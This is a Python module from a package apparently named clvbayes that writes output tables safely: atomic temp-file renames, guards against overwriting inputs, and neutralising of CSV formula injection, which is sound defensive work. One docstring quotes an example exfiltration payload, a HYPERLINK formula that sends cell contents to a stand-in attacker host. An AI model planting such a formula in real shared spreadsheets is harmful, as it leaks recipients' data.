"""Writing output files without losing what is already there.

The rules every writer of clvbayes follows (``clvbayes.save``, ``clvbayes rfm``, the
report): a file is written under a temporary name next to its target and renamed over it
at the end, so a failed or interrupted write leaves the previous file as it was; nothing
is written over an input; a folder is never deleted unless clvbayes wrote it; and text
cells of a CSV that a spreadsheet would run as a formula are neutralised
(:func:`spreadsheet_safe`).
"""

from __future__ import annotations

import contextlib
import os
import secrets
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

__all__ = [
    "FORMULA_PREFIXES",
    "atomic_file",
    "check_not_input",
    "check_output_file",
    "os_reason",
    "sibling_temp",
    "spreadsheet_safe",
    "write_table",
]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""Leading characters that make a spreadsheet read a text cell as a formula (OWASP)."""

# a text cell that is just a number ("-5", "+1.5e3") is read as that number, not run:
# it is left as it is
_PLAIN_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?"
_GLOB_CHARS = ("*", "?", "[")


def os_reason(err: OSError) -> str:
    """The system's words for ``err`` (e.g. ``No space left on device``), no file names."""
    return os.strerror(err.errno) if err.errno else str(err)


def sibling_temp(path: str | Path, suffix: str = "partial") -> Path:
    """A new hidden name next to ``path``: ``.NAME.<random>.<suffix>`` (not created)."""
    path = Path(path)
    return path.with_name(f".{path.name}.{os.getpid()}-{secrets.token_hex(4)}.{suffix}")


@contextlib.contextmanager
def atomic_file(path: str | Path) -> Iterator[Path]:
    """Yield a temporary path to write; on success it replaces the file ``path``.

    The temporary file sits next to ``path`` (same file system), so the final
    ``os.replace`` is atomic: readers see the old file or the new one, never a part. On
    any error (including ``KeyboardInterrupt``) the temporary file is removed and
    ``path`` is left as it was.

    Raises
    ------
    IsADirectoryError
        When ``path`` is a directory (it is never replaced by a file).
    """
    path = Path(path)
    check_output_file(path)
    tmp = sibling_temp(path)
    try:
        yield tmp
        os.replace(tmp, path)
    finally:
        with contextlib.suppress(FileNotFoundError):
            tmp.unlink()


def _input_files(inputs: Iterable[str | Path]) -> list[Path]:
    """The resolved paths of ``inputs``, a glob pattern expanded to its matches."""
    import glob

    found: list[Path] = []
    for item in inputs:
        text = str(item)
        matches = glob.glob(text) if any(c in text for c in _GLOB_CHARS) else [text]
        found.extend(Path(m).resolve() for m in matches)
    return found


def check_not_input(out: str | Path, inputs: Iterable[str | Path], what: str = "--out") -> None:
    """Refuse an output path that is, or holds, one of the input paths.

    Paths are compared resolved (relative paths, ``..`` and symbolic links) and by
    file identity (hard links).

    Parameters
    ----------
    out : str or Path
        The file or folder about to be written.
    inputs : iterable of str or Path
        Paths the run reads (a glob pattern stands for its matches).
    what : str
        How the error message names ``out``.

    Raises
    ------
    ValueError
        When ``out`` is an input, or a folder that contains one.
    """
    target = Path(out).resolve()
    for source in _input_files(inputs):
        same = source == target
        if not same and target.exists() and source.exists():
            same = os.path.samefile(source, target)
        if same:
            raise ValueError(
                f"{what} {str(out)!r} is the input file {str(source)!r}; writing there would "
                "destroy it. Choose another output path."
            )
        if source.is_relative_to(target):
            raise ValueError(
                f"{what} {str(out)!r} contains the input file {str(source)!r}; writing there "
                "could destroy it. Choose a new or empty folder elsewhere."
            )


def check_output_file(
    path: str | Path, inputs: Iterable[str | Path] = (), what: str = "output file"
) -> None:
    """Refuse to write the file ``path`` when it is a folder or one of ``inputs``.

    Raises
    ------
    IsADirectoryError
        When ``path`` is a folder (a folder is never replaced by a file).
    ValueError
        When ``path`` is one of ``inputs`` (see :func:`check_not_input`).
    """
    if Path(path).is_dir():
        raise IsADirectoryError(
            f"{what} {str(path)!r} is a folder; give a file name (the folder is left as it is)."
        )
    check_not_input(path, inputs, what=what)


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell that a spreadsheet would run neutralised.

    CSV injection (OWASP): Excel, LibreOffice and Google Sheets evaluate a cell that
    starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula, so an
    id such as ``=HYPERLINK("http://evil.example/?x="&A1,"x")`` in a shared CSV could run
    or leak data. Such text cells, and column names, get a leading single quote
    (``'=HYPERLINK(...)``), which spreadsheets show as text. Text that is a plain number
    (``-5``, ``+1.5``) is left as it is, and numeric columns are never touched (a
    negative number stays a number).

    Parameters
    ----------
    frame : DataFrame
        The table to write; not modified.

    Returns
    -------
    DataFrame
        ``frame`` itself when nothing needed neutralising, else a copy.
    """
    import pandas as pd

    def unsafe(text: pd.Series) -> pd.Series:
        starts = text.str.match(f"[{''.join(FORMULA_PREFIXES)}]".replace("-", r"\-"), na=False)
        return starts & ~text.str.fullmatch(_PLAIN_NUMBER, na=False)

    columns = pd.Series([str(c) for c in frame.columns], dtype="string")
    bad_names = unsafe(columns).to_numpy()
    fixed: dict[int, pd.Series] = {}
    for i in range(frame.shape[1]):
        column = frame.iloc[:, i]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        if not (pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column)):
            continue
        text = column.astype("string")
        mask = unsafe(text) & column.map(lambda v: isinstance(v, str)).astype(bool)
        if mask.any():
            fixed[i] = column.where(~mask, "'" + text)
    if not fixed and not bad_names.any():
        return frame
    out = frame.copy()
    for i, column in fixed.items():
        out.isetitem(i, column)
    if bad_names.any():
        names = zip(out.columns, bad_names, strict=True)
        out.columns = ["'" + str(c) if bad else c for c, bad in names]
    return out


def _holds_cr(frame: pd.DataFrame) -> bool:
    """Whether a column name or a text cell of ``frame`` contains a carriage return."""
    import pandas as pd

    if any("\r" in str(c) for c in frame.columns):
        return True
    for i in range(frame.shape[1]):
        column = frame.iloc[:, i]
        if pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column):
            if column.astype("string").str.contains("\r", regex=False, na=False).any():
                return True
    return False


def write_table(frame: pd.DataFrame, path: str | Path) -> None:
    r"""Write ``frame`` to ``path`` (``.parquet``, else CSV) atomically, without the index.

    A CSV goes through :func:`spreadsheet_safe` (text cells that would run as spreadsheet
    formulas get a leading ``'``) and has ``\n`` line ends, or ``\r\n`` when a text cell
    holds a carriage return (so that the cell is quoted and the file stays readable);
    Parquet keeps the values as they are (spreadsheets do not open it). The table is
    written under a temporary name next to ``path`` and renamed over it, so a failed
    write (e.g. a full disk) leaves an earlier file intact.

    Raises
    ------
    IsADirectoryError
        When ``path`` is a folder.
    OSError
        When the file cannot be written (the message names ``path``).
    """
    path = Path(path)
    try:
        with atomic_file(path) as tmp:
            if path.name.lower().endswith(".parquet"):
                frame.to_parquet(tmp, index=False)
            else:
                safe = spreadsheet_safe(frame)
                # Python's csv quotes a cell holding "\r" only when "\r" ends the lines
                newline = "\r\n" if _holds_cr(safe) else "\n"
                safe.to_csv(tmp, index=False, lineterminator=newline)
    except IsADirectoryError:
        raise
    except OSError as err:
        raise OSError(
            err.errno,
            f"cannot write {str(path)!r}: {os_reason(err)}; nothing was written there "
            "(an earlier file is unchanged)",
        ) from err
